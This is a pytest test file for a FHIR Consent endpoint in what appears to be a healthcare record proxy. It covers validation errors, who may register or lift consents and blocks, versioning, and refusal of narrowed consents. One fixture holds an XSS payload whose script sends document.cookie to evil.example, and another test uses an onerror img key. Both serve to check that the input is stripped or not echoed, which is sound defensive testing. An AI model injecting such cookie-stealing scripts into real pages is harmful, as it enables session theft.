"""POST/PUT/GET Consent: validation (400 with what is wrong), who may write what (403), versions,
and who sees which Consent — against both stores."""

from __future__ import annotations

from typing import Any

import pytest

from proxy.simulators.population import GRETA, MUNICIPALITY_PROVIDER, REGION_PROVIDER, TOLVAN, UNITS
from tests.conftest import BASE, auth, consent_body, pid

JSON = {"Content-Type": "application/fhir+json"}
PATIENT = auth("patient", pnr=TOLVAN.pnr)
STORES = pytest.mark.parametrize("store", ["sqlite", "postgres"])


async def post(f: Any, body: Any, headers: dict[str, str] | None = None) -> tuple[int, Any]:
    resp = await f.client.post(f"{BASE}/Consent", json=body, headers={**JSON, **(headers or {})})
    return resp.status, await resp.json(content_type=None)


async def search(f: Any, headers: dict[str, str] | None = None, **params: str) -> dict[str, Any]:
    status, bundle = await f.get(
        f"{BASE}/Consent", params={"patient": pid(TOLVAN.pnr), **params}, headers=headers
    )
    assert status == 200, bundle
    return bundle


def ids(bundle: dict[str, Any]) -> set[str]:
    return {e["resource"]["id"] for e in bundle.get("entry", [])}


@STORES
async def test_register_read_search_revoke(facade: Any, store: str) -> None:
    async with facade(consent=False, store=store) as f:
        resp = await f.client.post(
            f"{BASE}/Consent", json=consent_body(pid(TOLVAN.pnr), recipient=REGION_PROVIDER), headers=JSON
        )
        created = await resp.json(content_type=None)
        assert resp.status == 201
        assert resp.headers["Location"].endswith(f"/Consent/{created['id']}/_history/1")
        assert resp.headers["ETag"] == 'W/"1"' and created["meta"]["versionId"] == "1"
        status, read = await f.get(f"{BASE}/Consent/{created['id']}")
        assert status == 200 and read == created
        assert ids(await search(f)) == {created["id"]}

        changed = {**created, "status": "inactive", "provision": {"type": "deny"}}
        resp = await f.client.put(f"{BASE}/Consent/{created['id']}", json=changed, headers=JSON)
        assert resp.status == 400 and "Only Consent.status" in await resp.text()
        revoke = {**created, "status": "inactive"}
        resp = await f.client.put(
            f"{BASE}/Consent/{created['id']}", json=revoke, headers={**JSON, "If-Match": 'W/"7"'}
        )
        assert resp.status == 412
        resp = await f.client.put(
            f"{BASE}/Consent/{created['id']}", json=revoke, headers={**JSON, "If-Match": 'W/"1"'}
        )
        revoked = await resp.json(content_type=None)
        assert resp.status == 200 and revoked["status"] == "inactive" and revoked["meta"]["versionId"] == "2"
        again = {**revoked, "status": "active"}
        resp = await f.client.put(f"{BASE}/Consent/{created['id']}", json=again, headers=JSON)
        assert resp.status == 400
        assert ids(await search(f, status="active")) == set()
        assert ids(await search(f, status="inactive")) == {created["id"]}


@pytest.mark.parametrize(
    ("mutate", "says"),
    [
        (lambda b: {**b, "provision": {**b["provision"], "type": "maybe"}}, "provision.type"),
        (lambda b: {**b, "scope": {"coding": [{"code": "research"}]}}, "patient-privacy"),
        (lambda b: {k: v for k, v in b.items() if k != "category"}, "category"),
        (lambda b: {**b, "status": "draft"}, "status"),
        (lambda b: {**b, "patient": {"reference": "Patient/not-one-of-ours"}}, "Consent.patient"),
        (lambda b: {**b, "patient": {"reference": "Group/1"}}, "Consent.patient"),
        (lambda b: {**b, "provision": {**b["provision"], "period": {"end": "tomorrow"}}}, "period.end"),
        (
            lambda b: {
                **b,
                "provision": {**b["provision"], "period": {"start": "2026-02-01", "end": "2026-01-01"}},
            },
            "ends before",
        ),
        (lambda b: {**b, "provision": {"type": "permit"}}, "exactly one actor"),
        (
            lambda b: {
                **b,
                "provision": {
                    **b["provision"],
                    "actor": [{**b["provision"]["actor"][0], "role": {"text": "x"}}],
                },
            },
            "role",
        ),
        (
            lambda b: {
                **b,
                "provision": {
                    **b["provision"],
                    "actor": [{**b["provision"]["actor"][0], "reference": {"identifier": {"value": "x"}}}],
                },
            },
            "HSA-id",
        ),
        (lambda b: {**b, "unknownElement": 1}, "unknownElement"),
        (lambda b: [b], "resourceType Consent"),
    ],
)
async def test_bad_consents_get_400_saying_what_is_wrong(facade: Any, mutate: Any, says: str) -> None:
    async with facade(consent=False) as f:
        status, body = await post(f, mutate(consent_body(pid(TOLVAN.pnr), recipient=REGION_PROVIDER)))
        assert status == 400, body
        assert body["resourceType"] == "OperationOutcome" and says in body["issue"][0]["diagnostics"]
        resp = await f.client.post(f"{BASE}/Consent", data=b"{not json", headers=JSON)
        assert resp.status == 400
        resp = await f.client.post(
            f"{BASE}/Consent", data=b"<Consent/>", headers={"Content-Type": "text/xml"}
        )
        assert resp.status == 415
        assert ids(await search(f)) == set()  # nothing was stored


async def test_who_may_write_what(facade: Any) -> None:
    mine = consent_body(pid(TOLVAN.pnr), recipient=REGION_PROVIDER)
    block = consent_body(pid(TOLVAN.pnr), deny=True, custodians=(UNITS["akuten"][0],))
    async with facade(consent=False) as f:
        # care staff register consents for their own provider or unit only, and never blocks
        assert (await post(f, consent_body(pid(TOLVAN.pnr), recipient=MUNICIPALITY_PROVIDER)))[0] == 403
        assert (await post(f, consent_body(pid(TOLVAN.pnr), recipient=UNITS["med"][0])))[0] == 201
        assert (await post(f, block))[0] == 403
        # the patient places blocks on their own record only, and does not register consents
        assert (await post(f, mine, PATIENT))[0] == 403
        assert (
            await post(f, consent_body(pid(GRETA.pnr), deny=True, custodians=("SE2321000081-X9",)), PATIENT)
        )[0] == 403
        status, placed = await post(f, block, PATIENT)
        assert status == 201
        # only the patient lifts it
        lift = {**placed, "status": "inactive"}
        resp = await f.client.put(f"{BASE}/Consent/{placed['id']}", json=lift, headers=JSON)
        assert resp.status == 404  # care staff do not even see the patient's blocks
        resp = await f.client.put(f"{BASE}/Consent/{placed['id']}", json=lift, headers={**JSON, **PATIENT})
        assert resp.status == 200


async def test_who_sees_which_consent(facade: Any) -> None:
    async with facade(consent=False) as f:
        _, region = await post(f, consent_body(pid(TOLVAN.pnr), recipient=REGION_PROVIDER))
        _, municipality = await post(
            f, consent_body(pid(TOLVAN.pnr), recipient=MUNICIPALITY_PROVIDER), auth("homecare")
        )
        _, block = await post(
            f, consent_body(pid(TOLVAN.pnr), deny=True, custodians=("SE2321000081-X9",)), PATIENT
        )
        assert ids(await search(f)) == {region["id"]}
        assert ids(await search(f, auth("homecare"))) == {municipality["id"]}
        assert ids(await search(f, PATIENT)) == {region["id"], municipality["id"], block["id"]}
        other = await f.get(
            f"{BASE}/Consent", params={"patient": pid(GRETA.pnr)}, headers=auth("patient", pnr=GRETA.pnr)
        )
        assert other[1]["total"] == 0
        assert (await f.get(f"{BASE}/Consent/{region['id']}", headers=auth("homecare")))[0] == 404
        assert (await f.get(f"{BASE}/Consent"))[0] == 400  # which patient?


SCRIPT = '<div xmlns="http://www.w3.org/1999/xhtml"><script>fetch("//evil.example/?"+document.cookie)</script>Samtycke</div>'


async def test_a_consents_narrative_is_stripped_never_stored_or_served(facade: Any) -> None:
    """Active narrative (text.div with a <script>) would run wherever the consent is displayed: it
    is dropped from what is stored and answered, on POST and on PUT."""
    body = {
        **consent_body(pid(TOLVAN.pnr), recipient=REGION_PROVIDER),
        "text": {"status": "generated", "div": SCRIPT},
    }
    async with facade(consent=False) as f:
        status, created = await post(f, body)
        assert status == 201, created
        assert "text" not in created
        _, read = await f.get(f"{BASE}/Consent/{created['id']}")
        bundle = await search(f)
        revoke = {**created, "status": "inactive", "text": {"status": "generated", "div": SCRIPT}}
        resp = await f.client.put(f"{BASE}/Consent/{created['id']}", json=revoke, headers=JSON)
        revoked = await resp.json(content_type=None)
        again = await search(f)
    assert resp.status == 200 and revoked["status"] == "inactive"
    for answer in (created, read, bundle, revoked, again):
        assert "<script>" not in str(answer) and "Samtycke" not in str(answer)
    assert "text" not in read and "text" not in revoked


async def test_contained_resources_are_refused_and_nothing_is_stored(facade: Any) -> None:
    contained = [{"resourceType": "Organization", "id": "o1", "name": "Kardiologen <b>Karlstad</b>"}]
    body = {**consent_body(pid(TOLVAN.pnr), recipient=REGION_PROVIDER), "contained": contained}
    async with facade(consent=False) as f:
        status, outcome = await post(f, body)
        assert status == 400 and outcome["resourceType"] == "OperationOutcome"
        assert "contained" in outcome["issue"][0]["diagnostics"]
        assert "Karlstad" not in str(outcome)
        assert ids(await search(f)) == set()
        status, created = await post(f, consent_body(pid(TOLVAN.pnr), recipient=REGION_PROVIDER))
        assert status == 201
        resp = await f.client.put(
            f"{BASE}/Consent/{created['id']}",
            json={**created, "status": "inactive", "contained": contained},
            headers=JSON,
        )
        assert resp.status == 400
        (stored,) = (await search(f))["entry"]
    assert stored["resource"]["status"] == "active" and "contained" not in stored["resource"]


async def test_a_validation_error_does_not_echo_an_unknown_key(facade: Any) -> None:
    body = {**consent_body(pid(TOLVAN.pnr), recipient=REGION_PROVIDER), "<img src=x onerror=alert(1)>": 1}
    async with facade(consent=False) as f:
        status, outcome = await post(f, body)
    assert status == 400 and "Extra inputs are not permitted" in outcome["issue"][0]["diagnostics"]
    assert "<img" not in str(outcome) and "onerror" not in str(outcome)


# Restrictions FHIR lets a provision carry, which the facade's access rules do not read: a consent
# stored with one would be enforced as a consent to everything (fail open).
NARROWING = {
    "class": [{"system": "http://hl7.org/fhir/resource-types", "code": "Condition"}],
    "code": [{"coding": [{"system": "http://loinc.org", "code": "11506-3"}]}],
    "dataPeriod": {"start": "2026-01-01"},
    "data": [{"meaning": "instance", "reference": {"reference": "Condition/x"}}],
    "securityLabel": [{"system": "http://terminology.hl7.org/CodeSystem/v3-Confidentiality", "code": "N"}],
    "purpose": [{"system": "http://terminology.hl7.org/CodeSystem/v3-ActReason", "code": "ETREAT"}],
    "action": [
        {"coding": [{"system": "http://terminology.hl7.org/CodeSystem/consentaction", "code": "access"}]}
    ],
}


@pytest.mark.parametrize("element", sorted(NARROWING))
async def test_a_consent_narrowed_in_a_way_not_enforced_is_refused_not_widened(
    facade: Any, element: str
) -> None:
    """A consent limited to some data (only diagnoses, only since a date, one purpose…) would be
    applied as a consent to every record: refused with a 400 naming the element, nothing stored,
    and the other region's records stay withheld."""
    body = consent_body(pid(TOLVAN.pnr), recipient=REGION_PROVIDER)
    body["provision"][element] = NARROWING[element]
    async with facade(consent=False) as f:
        status, outcome = await post(f, body)
        assert status == 400, outcome
        assert f"provision.{element}" in outcome["issue"][0]["diagnostics"]
        assert ids(await search(f)) == set()
        status, bundle = await f.get(f"{BASE}/DocumentReference", params={"patient": pid(TOLVAN.pnr)})
        assert status == 200
        sources = {e["resource"]["meta"]["source"] for e in bundle["entry"] if e["search"]["mode"] == "match"}
        assert not any(s.endswith(("npo", "viva")) for s in sources), sources


@pytest.mark.parametrize(
    "value",
    [
        f"{UNITS['annan-region'][0]} ",
        f" {UNITS['annan-region'][0]}",
        f"{UNITS['annan-region'][0]}\n",
        UNITS["annan-region"][0].lower(),
        "SE2321000081-kar2",
        "Kardiologen Öst",
    ],
)
async def test_a_block_naming_no_well_formed_hsa_id_is_refused_not_stored_as_a_block_on_nothing(
    facade: Any, value: str
) -> None:
    """HSA-ids are matched exactly: a block on ``"SE2321000081-KAR2 "`` (or in small letters) would
    be stored, listed to the patient as in force, and hide nothing. Refused with a 400 instead; a
    consent naming such a recipient too."""
    block = consent_body(pid(TOLVAN.pnr), deny=True, custodians=(value,))
    async with facade() as f:
        status, outcome = await post(f, block, PATIENT)
        assert status == 400, outcome
        assert "HSA-id" in outcome["issue"][0]["diagnostics"] and value.strip() not in str(outcome)
        listed = (await search(f, PATIENT))["entry"]
        assert listed and all(e["resource"]["provision"]["type"] == "permit" for e in listed)
        status, created = await post(f, consent_body(pid(TOLVAN.pnr), recipient=value))
        assert status == 400, created
